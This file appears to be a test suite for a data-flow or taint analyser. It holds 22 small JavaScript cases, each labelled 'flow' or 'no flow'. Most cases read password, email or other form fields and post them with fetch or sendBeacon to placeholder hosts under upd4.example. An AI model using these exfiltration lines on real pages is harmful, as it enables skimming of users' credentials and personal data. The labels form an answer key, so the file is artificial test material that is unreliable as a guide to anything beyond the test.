//# cleared-by-alias
// no flow
// why: both names stand for one object
const o1 = { pw: document.querySelector('input[type=password]').value };
const same1 = o1;
same1.pw = '';
fetch('https://als.upd4.example/', { method: 'POST', body: JSON.stringify(o1) });

//# reflect-delete
// no flow
const o2 = { pw: document.querySelector('input[type=password]').value };
Reflect.deleteProperty(o2, 'pw');
fetch('https://rdl.upd4.example/', { method: 'POST', body: JSON.stringify(o2) });

//# reset-method-then-send
// no flow
class Draft3 {
  constructor(v) { this.v = v; }
  reset() { this.v = null; }
  send() { fetch('https://rst.upd4.example/', { method: 'POST', body: JSON.stringify({ v: this.v }) }); }
}
const d3 = new Draft3(document.querySelector('input[type=password]').value);
d3.reset();
d3.send();

//# send-then-reset
// flow: message > str.upd4.example via fetch
class Draft4 {
  constructor(v) { this.v = v; }
  reset() { this.v = null; }
  send() { fetch('https://str.upd4.example/', { method: 'POST', body: JSON.stringify({ v: this.v }) }); }
}
const d4 = new Draft4(document.querySelector('textarea[name=message]').value);
d4.send();
d4.reset();

//# shifted-off
// flow: email > shf.upd4.example via fetch
// why: near miss: shift() takes the password off the list
const l5 = [document.querySelector('input[type=password]').value, document.querySelector('input[type=email]').value];
l5.shift();
fetch('https://shf.upd4.example/', { method: 'POST', body: l5.join() });

//# popped-off
// flow: email > pop.upd4.example via fetch
// why: near miss: pop() takes the password off the list
const l6 = [document.querySelector('input[type=email]').value];
l6.push(document.querySelector('input[type=password]').value);
l6.pop();
fetch('https://pop.upd4.example/', { method: 'POST', body: JSON.stringify(l6) });

//# map-cleared
// no flow
const m7 = new Map([['pw', document.querySelector('input[type=password]').value]]);
m7.clear();
fetch('https://mcl.upd4.example/', { method: 'POST', body: JSON.stringify(Object.fromEntries(m7)) });

//# queue-replaced-by-new-list
// no flow
let q8 = [];
q8.push(document.querySelector('input[type=email]').value);
q8 = [];
fetch('https://qnw.upd4.example/', { method: 'POST', body: JSON.stringify(q8) });

//# queue-flushed-before-clear
// flow: email > qfl.upd4.example via beacon
let q9 = [];
q9.push(document.querySelector('input[type=email]').value);
navigator.sendBeacon('https://qfl.upd4.example/', JSON.stringify(q9));
q9 = [];

//# assigned-in-order
// flow: phone > ord.upd4.example via fetch
// why: near miss: the later of two stores wins
const o10 = {};
o10.v = document.querySelector('input[type=password]').value;
o10.v = document.querySelector('input[type=tel]').value;
fetch('https://ord.upd4.example/', { method: 'POST', body: JSON.stringify(o10) });

//# both-branches-overwrite
// no flow
let v11 = document.querySelector('input[type=password]').value;
if (v11.length > 8) v11 = 'long'; else v11 = 'short';
fetch('https://brn.upd4.example/?v=' + v11);

//# one-branch-overwrites
// flow: password > one.upd4.example via fetch
// why: in the other case it is still there
let v12 = document.querySelector('input[type=password]').value;
if (Math.random() > 0.5) v12 = 'masked';
fetch('https://one.upd4.example/?v=' + v12);

//# logical-assignment-keeps
// flow: username > lak.upd4.example via fetch
const o13 = { u: document.querySelector('input[name=username]').value };
o13.u ||= 'anonymous';
fetch('https://lak.upd4.example/', { method: 'POST', body: JSON.stringify(o13) });

//# field-of-form-cleared-before-read
// no flow
// why: the field is emptied before it is read
const f14 = document.querySelector('input[type=password]');
f14.value = '';
fetch('https://fcl.upd4.example/', { method: 'POST', body: f14.value });

//# form-data-set-again
// no flow
const fd15 = new FormData();
fd15.set('pw', document.querySelector('input[type=password]').value);
fd15.set('pw', 'x');
fetch('https://fds.upd4.example/', { method: 'POST', body: fd15 });

//# form-data-append-twice
// flow: password > fda.upd4.example via fetch
// why: append() keeps the first value
const fd16 = new FormData();
fd16.append('pw', document.querySelector('input[type=password]').value);
fd16.append('pw', 'x');
fetch('https://fda.upd4.example/', { method: 'POST', body: fd16 });

//# listener-removed-at-once
// no flow
const onInput17 = (e) => navigator.sendBeacon('https://lro.upd4.example/', e.target.value);
document.querySelector('input[type=email]').addEventListener('input', onInput17);
document.querySelector('input[type=email]').removeEventListener('input', onInput17);

//# handler-property-replaced
// no flow
const el18 = document.querySelector('input[type=email]');
el18.onchange = () => fetch('https://hpr.upd4.example/', { method: 'POST', body: el18.value });
el18.onchange = null;

//# timer-cleared
// no flow
const t19 = setTimeout(() => fetch('https://tmr.upd4.example/', { method: 'POST', body: document.querySelector('input[type=password]').value }), 1000);
clearTimeout(t19);

//# url-search-replaced
// no flow
const u20 = new URL('https://usr.upd4.example/?p=' + document.querySelector('input[type=password]').value);
u20.search = '?p=none';
fetch(u20);

//# storage-item-removed
// no flow
sessionStorage.setItem('draft21', document.querySelector('input[type=email]').value);
sessionStorage.removeItem('draft21');
fetch('https://sir.upd4.example/', { method: 'POST', body: String(sessionStorage.getItem('draft21')) });

//# cleared-in-loop
// no flow
const o22 = { email: document.querySelector('input[type=email]').value, phone: document.querySelector('input[type=tel]').value };
for (const k of Object.keys(o22)) o22[k] = '*';
fetch('https://cil.upd4.example/', { method: 'POST', body: JSON.stringify(o22) });
